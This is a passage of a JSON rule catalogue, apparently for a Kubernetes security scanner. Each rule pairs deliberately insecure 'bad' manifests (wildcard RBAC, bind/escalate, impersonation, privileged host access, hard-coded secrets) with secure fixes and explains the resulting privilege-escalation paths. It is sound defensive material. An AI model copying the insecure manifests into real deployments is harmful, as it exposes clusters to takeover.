    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-proc-mount-unmasked",
    "title": "Container /proc is unmasked",
    "severity": "high",
    "cwe": [
      "CWE-693"
    ],
    "description": "`procMount: Unmasked` turns off the masking of sensitive `/proc` paths (`/proc/kcore`, `/proc/sysrq-trigger`, ...) and read-only `/proc/sys`, which exposes kernel memory and host controls unless the pod also runs in a user namespace. The Baseline Pod Security Standard forbids it.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: builder\nspec:\n  containers:\n    - name: builder\n      image: registry.example.com/builder:3.1.0\n      securityContext:\n        procMount: Unmasked\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: builder\nspec:\n  containers:\n    - name: builder\n      image: registry.example.com/builder:3.1.0\n      securityContext:\n        procMount: Default\n",
      "fix": "Remove `procMount: Unmasked` (or set `Default`); nested container builds can run rootless or in a user namespace (`hostUsers: false`)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-rbac-admission-webhooks",
    "title": "RBAC rule can change admission webhooks",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "Whoever can create or modify validating and mutating webhook configurations decides what the API server admits and can rewrite every object created in the cluster (inject containers into pods, strip security settings) or see their contents, including Secrets.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: webhook-manager\nrules:\n  - apiGroups: [\"admissionregistration.k8s.io\"]\n    resources: [\"mutatingwebhookconfigurations\"]\n    verbs: [\"get\", \"create\", \"update\", \"patch\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: webhook-manager\nrules:\n  - apiGroups: [\"admissionregistration.k8s.io\"]\n    resources: [\"mutatingwebhookconfigurations\"]\n    resourceNames: [\"shop-injector\"]\n    verbs: [\"get\", \"update\", \"patch\"]\n",
      "fix": "Restrict write access to the webhook configurations the controller owns with `resourceNames`."
    },
    "references": [
      "https://kubernetes.io/docs/reference/access-authn-authz/extensible-admission-controllers/",
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#control-admission-webhooks"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_155"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-rbac-approve-csr",
    "title": "RBAC role can approve certificate signing requests",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "A role with `update` on `certificatesigningrequests/approval` and `approve` on `signers` can approve its own requests for client certificates, for example one for a node or for a member of `system:masters`, and so authenticate as any identity the signer issues.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: csr-approver\nrules:\n  - apiGroups: [\"certificates.k8s.io\"]\n    resources: [\"certificatesigningrequests/approval\"]\n    verbs: [\"update\"]\n  - apiGroups: [\"certificates.k8s.io\"]\n    resources: [\"signers\"]\n    verbs: [\"approve\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: csr-reader\nrules:\n  - apiGroups: [\"certificates.k8s.io\"]\n    resources: [\"certificatesigningrequests\"]\n    verbs: [\"get\", \"list\", \"watch\"]\n",
      "fix": "Leave CSR approval to the controllers that own each signer, and restrict `approve` to a specific signer with `resourceNames`."
    },
    "references": [
      "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/#authorization",
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#csrs-and-certificate-issuing"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_156"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-rbac-bind-escalate",
    "title": "RBAC rule allows bind or escalate on roles",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "The `escalate` verb lets a subject create or edit roles with permissions it does not have; `bind` lets it bind any role (cluster-admin included) to itself. Without `resourceNames`, either one is a path to full control of the cluster.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: role-manager\nrules:\n  - apiGroups: [\"rbac.authorization.k8s.io\"]\n    resources: [\"clusterroles\", \"clusterrolebindings\"]\n    verbs: [\"get\", \"list\", \"create\", \"bind\", \"escalate\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: role-manager\nrules:\n  - apiGroups: [\"rbac.authorization.k8s.io\"]\n    resources: [\"clusterrolebindings\"]\n    verbs: [\"get\", \"list\", \"create\"]\n  - apiGroups: [\"rbac.authorization.k8s.io\"]\n    resources: [\"clusterroles\"]\n    resourceNames: [\"view\"]\n    verbs: [\"bind\"]\n",
      "fix": "Remove `escalate`; restrict `bind` to the roles the subject may hand out with `resourceNames`."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#escalate-verb",
      "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_157",
      "CKV_K8S_158"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-rbac-impersonate",
    "title": "RBAC rule allows impersonation",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "The `impersonate` verb on users, groups or service accounts lets the subject act as them (`kubectl --as=...`), gaining all their permissions. Impersonating the `system:masters` group is cluster-admin.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: support\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"users\", \"groups\", \"serviceaccounts\"]\n    verbs: [\"impersonate\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: support\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"serviceaccounts\"]\n    verbs: [\"get\", \"list\"]\n",
      "fix": "Grant the permissions the subject needs directly instead of impersonation."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#impersonate-verb",
      "https://kubernetes.io/docs/reference/access-authn-authz/authentication/#user-impersonation"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_K8S_3"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-rbac-pod-exec",
    "title": "RBAC rule allows exec into pods or the node proxy",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "`create` (or `get`, used by WebSocket clients) on `pods/exec` or `pods/attach` runs commands in any pod in scope, with that pod's service account and secrets; `create` on `nodes/proxy` reaches the kubelet API of the nodes, which can do the same for every pod of the node. Both are privilege escalation paths.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: debugger\n  namespace: shop\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"pods\", \"pods/exec\"]\n    verbs: [\"get\", \"create\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: debugger\n  namespace: shop\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"pods\", \"pods/log\"]\n    verbs: [\"get\", \"list\"]\n",
      "fix": "Grant read access to pods and logs instead; keep exec for break-glass accounts, audited."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#privilege-escalation-risks",
      "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_K8S_2"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-rbac-read-secrets",
    "title": "RBAC rule can read all Secrets",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "`get`, `list` or `watch` on `secrets` without `resourceNames` reads every Secret in scope (the whole cluster for a ClusterRole): database passwords, TLS keys and service account tokens of more privileged accounts. `list` and `watch` return the contents too.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: config-reader\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"configmaps\", \"secrets\"]\n    verbs: [\"get\", \"list\", \"watch\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: config-reader\n  namespace: shop\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"configmaps\"]\n    verbs: [\"get\", \"list\", \"watch\"]\n  - apiGroups: [\"\"]\n    resources: [\"secrets\"]\n    resourceNames: [\"shop-api-key\"]\n    verbs: [\"get\"]\n",
      "fix": "Limit access to the Secrets the subject needs with `resourceNames` (and `get` only), in a namespaced Role."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#listing-secrets",
      "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_K8S_5"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-rbac-wildcard",
    "title": "RBAC rule uses a wildcard",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "A `*` in `verbs`, `resources` or `apiGroups` grants every current and future verb, resource or API group, including Secrets, `escalate`, `impersonate` and custom resources added later. Least privilege means listing what the subject needs.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: deployer\n  namespace: shop\nrules:\n  - apiGroups: [\"apps\"]\n    resources: [\"*\"]\n    verbs: [\"*\"]\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: deployer\n  namespace: shop\nrules:\n  - apiGroups: [\"apps\"]\n    resources: [\"deployments\"]\n    verbs: [\"get\", \"list\", \"watch\", \"update\", \"patch\"]\n",
      "fix": "Replace the wildcard with the explicit verbs, resources and API groups the subject needs."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#least-privilege",
      "https://kubernetes.io/docs/reference/access-authn-authz/rbac/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_49"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-read-only-root-filesystem",
    "title": "Container root filesystem is writable",
    "severity": "low",
    "cwe": [
      "CWE-732"
    ],
    "description": "A writable root filesystem lets an attacker who gets code execution drop tools, modify binaries and persist inside the container. With `readOnlyRootFilesystem: true`, writes go only to explicitly mounted volumes (an `emptyDir` for `/tmp`, for example).",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        readOnlyRootFilesystem: false\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        readOnlyRootFilesystem: true\n      volumeMounts:\n        - name: tmp\n          mountPath: /tmp\n  volumes:\n    - name: tmp\n      emptyDir: {}\n",
      "fix": "Set `securityContext.readOnlyRootFilesystem: true` and mount an `emptyDir` volume where the application must write."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/",
      "https://cheatsheetseries.owasp.org/cheatsheets/Kubernetes_Security_Cheat_Sheet.html"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_22"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-readiness-probe-missing",
    "title": "Container has no readiness probe",
    "severity": "low",
    "cwe": [
      "CWE-754"
    ],
    "description": "Without a readiness probe, a container receives Service traffic as soon as it starts and while it is overloaded or still loading, which turns restarts and deployments into errors for users. Jobs and CronJobs are not checked.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          readinessProbe:\n            httpGet:\n              path: /healthz\n              port: 8080\n",
      "fix": "Add a `readinessProbe` (HTTP, TCP, gRPC or exec) that reflects whether the application can serve requests."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/"
    ],
    "tags": [
      "kubernetes",
      "availability"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_9"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-run-as-non-root",
    "title": "Container may run as root (runAsNonRoot not set)",
    "severity": "medium",
    "cwe": [
      "CWE-250"
    ],
    "description": "Without `runAsNonRoot: true` (or a non-zero `runAsUser`), the container runs as whatever user the image declares, which is root for most images. The kubelet enforces `runAsNonRoot` by refusing to start a container that would run as UID 0. A pod-level setting applies to every container that does not override it.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      securityContext:\n        runAsNonRoot: true\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "fix": "Set `securityContext.runAsNonRoot: true` on the pod (or each container), and build the image with a non-root USER."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_23"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-run-as-root-user",
    "title": "Container runs as root (runAsUser: 0)",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "`runAsUser: 0` runs the container process as root. Root in a container is one kernel bug or misconfiguration away from root on the node, and it can write to every file of the image and of mounted volumes.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  securityContext:\n    runAsUser: 0\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  securityContext:\n    runAsUser: 10001\n    runAsNonRoot: true\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "fix": "Run as a non-zero UID (`runAsUser: 10001`) and set `runAsNonRoot: true`; build the image with a non-root USER."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_23"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-seccomp-profile-missing",
    "title": "No seccomp profile set",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "Kubernetes runs containers without a seccomp filter unless a profile is set (or the kubelet enables `--seccomp-default`). The container runtime's default profile blocks dozens of system calls that applications do not use and that container escapes rely on. Set at pod level, it applies to every container.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      securityContext:\n        seccompProfile:\n          type: RuntimeDefault\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "fix": "Set `securityContext.seccompProfile.type: RuntimeDefault` in the pod spec."
    },
    "references": [
      "https://kubernetes.io/docs/tutorials/security/seccomp/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_31"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-seccomp-unconfined",
    "title": "Seccomp explicitly disabled (Unconfined)",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "The seccomp profile `Unconfined` removes the system-call filter, so a compromised process can use every kernel interface, including the rarely used ones where container-escape bugs are found. The Baseline Pod Security Standard forbids it.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  securityContext:\n    seccompProfile:\n      type: Unconfined\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  securityContext:\n    seccompProfile:\n      type: RuntimeDefault\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "fix": "Use `seccompProfile.type: RuntimeDefault`, or a `Localhost` profile that allows the extra system calls the application needs."
    },
    "references": [
      "https://kubernetes.io/docs/tutorials/security/seccomp/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_31"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-secret-from-env",
    "title": "Secret passed as an environment variable",
    "severity": "low",
    "cwe": [
      "CWE-526"
    ],
    "description": "Environment variables leak more easily than files: they are inherited by every child process, printed by crash reporters and debug endpoints, and visible in `/proc/<pid>/environ`. Secrets mounted as files can also be rotated without restarting the pod.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      env:\n        - name: DB_PASSWORD\n          valueFrom:\n            secretKeyRef:\n              name: web-db\n              key: password\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      volumeMounts:\n        - name: db\n          mountPath: /etc/secrets/db\n          readOnly: true\n  volumes:\n    - name: db\n      secret:\n        secretName: web-db\n",
      "fix": "Mount the Secret as a read-only volume and have the application read the file."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/secret/#using-secrets-as-files-from-a-pod",
      "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A05:2021",
      "secrets"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_35"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-secret-in-env",
    "title": "Hard-coded secret in a container environment variable",
    "severity": "high",
    "cwe": [
      "CWE-798"
    ],
    "description": "A password, token or key written as a literal `env` value is stored in the repository, in the object spec (readable by anyone who can get the workload) and in every copy of the manifest. Secret-like names (PASSWORD, SECRET, TOKEN, API_KEY, ...) with a literal value, and URLs with an inline password, are reported.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          env:\n            - name: DB_PASSWORD\n              value: \"s3cr3t-Passw0rd\"\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          env:\n            - name: DB_PASSWORD\n              valueFrom:\n                secretKeyRef:\n                  name: web-db\n                  key: password\n",
      "fix": "Move the value into a Secret (managed by an external secret store, sealed-secrets or SOPS) and reference it with `valueFrom.secretKeyRef`; rotate the exposed credential."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/secret/",
      "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A07:2021",
      "secrets"
    ],
    "precision": "high",
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-secret-in-manifest",
    "title": "Secret with values committed in the manifest",
    "severity": "medium",
    "cwe": [
      "CWE-798",
      "CWE-312"
    ],
    "description": "A Secret manifest with `data` or `stringData` values keeps the secret in the repository: base64 is an encoding, not encryption. Everyone with read access to the repository and its history has the credential. Empty values and placeholders (`${VAR}`, `<password>`) are not reported.",
    "help": {
      "bad": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: web-db\ntype: Opaque\nstringData:\n  password: \"s3cr3t-Passw0rd\"\n",
      "good": "apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata:\n  name: web-db\nspec:\n  secretStoreRef:\n    name: vault\n    kind: ClusterSecretStore\n  target:\n    name: web-db\n  data:\n    - secretKey: password\n      remoteRef:\n        key: shop/web-db\n        property: password\n",
      "fix": "Keep secret values out of Git: use an external secret store (External Secrets Operator, CSI driver), SealedSecrets or SOPS-encrypted files, and rotate the exposed credential."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/secret/",
      "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A07:2021",
      "secrets"
    ],
    "precision": "high",
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-selinux-privileged-type",
    "title": "Unconfined SELinux type",
    "severity": "high",
    "cwe": [
      "CWE-693"
    ],
    "description": "SELinux confines containers with the `container_t` type. Types such as `spc_t` (super-privileged container) or `unconfined_t` switch that confinement off, so the container can read and write host files its UID allows. The Baseline Pod Security Standard allows only the container types.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\nspec:\n  securityContext:\n    seLinuxOptions:\n      type: spc_t\n  containers:\n    - name: agent\n      image: registry.example.com/agent:2.0.1\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\nspec:\n  securityContext:\n    seLinuxOptions:\n      level: \"s0:c123,c456\"\n  containers:\n    - name: agent\n      image: registry.example.com/agent:2.0.1\n",
      "fix": "Remove `seLinuxOptions.type` (or use `container_t`); write a dedicated policy module if the container needs more."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#assign-selinux-labels-to-a-container"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-sensitive-host-path",
    "title": "Pod mounts a sensitive host path",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "Mounting a system directory of the node (`/`, `/etc`, `/proc`, `/sys`, `/root`, `/var/lib/kubelet`, `/etc/kubernetes`, ...) exposes host credentials, kubelet and cluster certificates, and kernel interfaces; with write access it is a direct escape to the node.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\nspec:\n  containers:\n    - name: agent\n      image: registry.example.com/agent:2.0.1\n      volumeMounts:\n        - name: host-etc\n          mountPath: /host/etc\n  volumes:\n    - name: host-etc\n      hostPath:\n        path: /etc\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\nspec:\n  containers:\n    - name: agent\n      image: registry.example.com/agent:2.0.1\n      volumeMounts:\n        - name: config\n          mountPath: /etc/agent\n  volumes:\n    - name: config\n      configMap:\n        name: agent-config\n",
      "fix": "Do not mount system directories of the node; pass configuration with ConfigMaps and Secrets, and use node-level agents with a dedicated, reviewed exception."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-service-load-balancer-open",
    "title": "LoadBalancer Service open to the internet",
    "severity": "low",
    "cwe": [
      "CWE-668"
    ],
    "description": "A LoadBalancer Service without `loadBalancerSourceRanges` (or with `0.0.0.0/0`) gets a public address reachable from anywhere. Internal load balancers (cloud annotations) and Services with restricted source ranges are not reported.",
    "help": {
      "bad": "apiVersion: v1\nkind: Service\nmetadata:\n  name: admin\nspec:\n  type: LoadBalancer\n  selector:\n    app: admin\n  ports:\n    - port: 443\n      targetPort: 8443\n",
      "good": "apiVersion: v1\nkind: Service\nmetadata:\n  name: admin\nspec:\n  type: LoadBalancer\n  loadBalancerSourceRanges:\n    - 203.0.113.0/24\n  selector:\n    app: admin\n  ports:\n    - port: 443\n      targetPort: 8443\n",
      "fix": "Restrict the clients with `loadBalancerSourceRanges`, make the load balancer internal, or publish through an Ingress with authentication."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/services-networking/service/#loadbalancer",
      "https://kubernetes.io/docs/tasks/access-application-cluster/configure-cloud-provider-firewall/"
    ],
    "precision": "medium",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-service-node-port",
    "title": "Service of type NodePort",
    "severity": "low",
    "cwe": [
      "CWE-668"
    ],
    "description": "A NodePort Service opens the port on every node of the cluster, on all of the node's addresses. It bypasses the load balancer and ingress controls, and whoever can reach a node (often a whole VPC) reaches the service.",
    "help": {
      "bad": "apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  type: NodePort\n  selector:\n    app: web\n  ports:\n    - port: 80\n      targetPort: 8080\n",
      "good": "apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  type: ClusterIP\n  selector:\n    app: web\n  ports:\n    - port: 80\n      targetPort: 8080\n",
      "fix": "Use a ClusterIP Service behind an Ingress or Gateway, or a LoadBalancer restricted with `loadBalancerSourceRanges`."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/services-networking/service/#type-nodeport",
      "https://kubernetes.io/docs/concepts/security/security-checklist/#network-security"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-share-process-namespace",
    "title": "Containers of the pod share one process namespace",
    "severity": "low",
    "cwe": [
      "CWE-668"
    ],
    "description": "With `shareProcessNamespace: true`, every container of the pod sees the processes of the others and can read their environment and `/proc/<pid>/root` filesystem: a compromised sidecar exposes the secrets of the main container and the other way round.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  shareProcessNamespace: true\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n    - name: proxy\n      image: registry.example.com/proxy:0.9.0\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n    - name: proxy\n      image: registry.example.com/proxy:0.9.0\n",
      "fix": "Remove `shareProcessNamespace: true`; use an ephemeral debug container (`kubectl debug --target`) when you need to inspect a process."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/share-process-namespace/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-unsafe-sysctl",
    "title": "Pod sets an unsafe sysctl",
    "severity": "medium",
    "cwe": [
      "CWE-668"
    ],
    "description": "Sysctls outside the safe set are not isolated between pods: they can change kernel behaviour for every workload on the node or starve it of resources. The Baseline Pod Security Standard allows only the safe set.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  securityContext:\n    sysctls:\n      - name: kernel.msgmax\n        value: \"65536\"\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  securityContext:\n    sysctls:\n      - name: net.ipv4.ip_local_port_range\n        value: \"1024 65535\"\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "fix": "Use only safe sysctls in pods; tune node-wide kernel parameters on the node (and taint dedicated nodes) instead."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/administer-cluster/sysctl-cluster/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-windows-host-process",
    "title": "Windows HostProcess container",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "A Windows HostProcess container runs directly on the node, with the host network and filesystem and, typically, as SYSTEM: it is the Windows equivalent of a privileged container.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\nspec:\n  securityContext:\n    windowsOptions:\n      hostProcess: true\n      runAsUserName: \"NT AUTHORITY\\\\SYSTEM\"\n  hostNetwork: true\n  nodeSelector:\n    kubernetes.io/os: windows\n  containers:\n    - name: agent\n      image: registry.example.com/agent-win:2.0.1\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: agent\nspec:\n  securityContext:\n    windowsOptions:\n      runAsUserName: \"ContainerUser\"\n  nodeSelector:\n    kubernetes.io/os: windows\n  containers:\n    - name: agent\n      image: registry.example.com/agent-win:2.0.1\n",
      "fix": "Run the workload as a regular Windows container; keep HostProcess pods for reviewed node agents."
    },
    "references": [
